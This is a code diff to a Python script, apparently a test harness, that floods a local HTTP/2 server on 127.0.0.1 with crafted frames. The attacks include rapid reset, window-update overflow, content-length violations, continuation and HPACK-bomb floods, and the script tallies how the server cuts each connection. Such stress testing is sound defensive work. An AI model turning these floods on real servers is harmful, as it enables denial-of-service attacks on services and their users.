@@ -1,5 +1,6 @@
 """An attacker: floods a port with one kind of frames, as fast as it can, and connects again
-whenever it is cut. `python attacker.py PORT KIND SECONDS` prints a JSON object of what it saw.
+whenever it is cut. `python attacker.py PORT KIND` says "ready", attacks from one line of its input
+to the next, and prints a JSON object of what it saw.
 
 What is sent on a connection is built before the time runs: an opening and, again and again, the same
 flood. Streams are numbered anew on each connection, so a flood with streams in it is sent once.
@@ -33,7 +34,7 @@ REQUEST = [
     ("te", "trailers"),
     ("content-type", "application/grpc"),
 ]
-STREAMS = 60_000  # on one connection; it is cut long before
+STREAMS = 10_000  # on one connection; it is cut long before
 CHUNK = 1 << 17
 
 
@@ -52,11 +53,11 @@ def headers(stream, block, *flags):
     return frame.serialize()
 
 
-def per_stream(after, *, request=REQUEST, flags=("END_HEADERS",)):
+def per_stream(after, *, request=REQUEST):
     """A request on each of many streams, each followed by `after(stream)`."""
     encoder = hpack.Encoder()
     return b"".join(
-        headers(stream, encoder.encode(request), *flags) + after(stream)
+        headers(stream, encoder.encode(request), "END_HEADERS") + after(stream)
         for stream in range(1, 2 * STREAMS, 2)
     )
 
@@ -65,8 +66,8 @@ def repeated(frame):
     return frame * (CHUNK // len(frame) + 1)
 
 
-def one_call(*, block=None, flags=("END_HEADERS",)):
-    return headers(1, block or hpack.Encoder().encode(REQUEST), *flags)
+def one_call(flags=("END_HEADERS",)):
+    return headers(1, hpack.Encoder().encode(REQUEST), *flags)
 
 
 BOMB = ("x", "v" * 3900)  # fits into the dynamic table, where a byte refers to it
@@ -100,12 +101,27 @@ def tiny_windows():
     return calls, repeated(grow)
 
 
-def malformed(stream):
+def no_increment(stream):
+    """A stream error (RFC 9113, 6.9), which hyperframe would not make."""
     return WindowUpdateFrame(stream, window_increment=1).serialize()[:-4] + bytes(4)
+
+
+def overflow(stream):
+    """A window of more than 2^31-1 (RFC 9113, 6.9.1)."""
+    return WindowUpdateFrame(stream, window_increment=(1 << 31) - 1).serialize()
+
+
+def too_much_data(stream):
+    """More than the request's content-length says (RFC 9113, 8.1.1)."""
+    return DataFrame(stream, b"ab").serialize()
 
 
 def reset(stream):
     return RstStreamFrame(stream, error_code=8).serialize()
+
+
+def nothing(_stream):
+    return b""
 
 
 def kinds():
@@ -113,13 +129,18 @@ def kinds():
     unfinished = one_call(flags=())
     windows_calls, windows_flood = tiny_windows()
     length = [*REQUEST, ("content-length", "1")]
+    uppercase = [*REQUEST, ("Not-HTTP2", "1")]
     return {
         "rapid_reset": (OPENING, per_stream(reset), False),
-        "made_reset": (OPENING, per_stream(malformed), False),
-        "made_reset_by_length": (
-            OPENING,
-            per_stream(lambda stream: DataFrame(stream, b"ab").serialize(), request=length),
-            False,
+        "no_increment": (OPENING, per_stream(no_increment), False),
+        "overflow": (OPENING, per_stream(overflow), False),
+        "content_length": (OPENING, per_stream(too_much_data, request=length), False),
+        "malformed_headers": (OPENING, per_stream(nothing, request=uppercase), False),
+        "too_many_streams": (OPENING, per_stream(nothing), False),
+        "data_after_end": (
+            OPENING + one_call(flags=("END_HEADERS", "END_STREAM")),
+            repeated(DataFrame(1, b"x").serialize()),
+            True,
         ),
         "continuation": (
             OPENING + unfinished,
@@ -162,9 +183,9 @@ def kinds():
 class Result:
     def __init__(self):
         self.connections = 0
-        self.cut = 0  # of them, with ENHANCE_YOUR_CALM
+        self.ends = {}  # how often by how: GOAWAY's error code, "closed" where none came
         self.bytes = 0
-        self.longest_s = 0.0  # from the first byte of the flood to the end of the connection
+        self.longest_s = 0.0  # from the first byte to the end of the connection
 
 
 def goaway_code(tail):
@@ -173,49 +194,81 @@ def goaway_code(tail):
     return int.from_bytes(tail[at + 10 : at + 14], "big") if at >= 3 else None
 
 
-def attack_once(port, opening, flood, again, deadline, result):
-    """One connection, until it is cut or time is up."""
-    tail = b""
-    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
-        connection.sendall(opening)
-        connection.setblocking(False)
-        result.connections += 1
-        started = time.monotonic()
-        left = memoryview(flood)
-        while time.monotonic() < deadline:
-            readable, writable, _ = select.select([connection], [connection] if left else [], [], 1)
-            try:
-                if readable:
-                    data = connection.recv(1 << 18)
-                    if not data:
-                        break
-                    tail = (tail + data)[-4096:]
-                if writable:
-                    sent = connection.send(left[:CHUNK])
-                    result.bytes += sent
-                    left = left[sent:]
-                    if not left and again:
-                        left = memoryview(flood)
-            except BlockingIOError:
-                continue
-            except (ConnectionResetError, BrokenPipeError):
-                break
-        else:
+class Attack:
+    """One connection, which is driven by `step()` until it is `over`."""
+
+    def __init__(self, port, opening, flood, again):
+        self.began = time.monotonic()
+        self._flood, self._again = flood, again
+        self._left = memoryview(opening + flood)
+        self._tail = b""
+        self.sent = 0
+        self.over = False
+        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
+        self.socket.setblocking(False)
+
+    def step(self):
+        wanted = [self.socket]
+        readable, writable, _ = select.select(wanted, wanted if self._left else [], [], 0.1)
+        if readable:
+            self._read()
+        elif writable:
+            self._write()
+
+    def _read(self):
+        try:
+            data = self.socket.recv(1 << 18)
+        except ConnectionResetError:
+            data = b""
+        self.over = not data
+        self._tail = (self._tail + data)[-4096:]
+
+    def _write(self):
+        try:
+            sent = self.socket.send(self._left[:CHUNK])
+        except BlockingIOError:
             return
-        result.longest_s = max(result.longest_s, time.monotonic() - started)
-        result.cut += goaway_code(tail) == 11
+        except (ConnectionResetError, BrokenPipeError):
+            self._left = b""  # what has come can still be read
+            return
+        self.sent += sent
+        self._left = self._left[sent:]
+        if not self._left and self._again:
+            self._left = memoryview(self._flood)
+
+    def note(self, result):
+        """Adds to the result what became of it."""
+        code = goaway_code(self._tail)
+        how = "closed" if code is None else str(code)
+        result.ends[how] = result.ends.get(how, 0) + 1
+        result.longest_s = max(result.longest_s, time.monotonic() - self.began)
 
 
-def attack(port, kind, seconds):
-    opening, flood, again = kinds()[kind]
+def attack(port, parts, told_to_stop):
     result = Result()
-    print("ready", flush=True)
-    deadline = time.monotonic() + seconds
-    while time.monotonic() < deadline:
-        attack_once(port, opening, flood, again, deadline, result)
+    while not told_to_stop():
+        one = Attack(port, *parts)
+        result.connections += 1
+        while not one.over and not told_to_stop():
+            one.step()
+        result.bytes += one.sent
+        if one.over:
+            one.note(result)
+        one.socket.close()
     return result
 
 
+def main():
+    port, kind = int(sys.argv[1]), sys.argv[2]
+    parts = kinds()[kind]
+    print("ready", flush=True)
+    sys.stdin.readline()
+
+    def told_to_stop():
+        return bool(select.select([sys.stdin], [], [], 0)[0])
+
+    print(json.dumps(vars(attack(port, parts, told_to_stop))), flush=True)
+
+
 if __name__ == "__main__":
-    port, kind, seconds = sys.argv[1:]
-    print(json.dumps(vars(attack(int(port), kind, float(seconds)))), flush=True)
+    main()
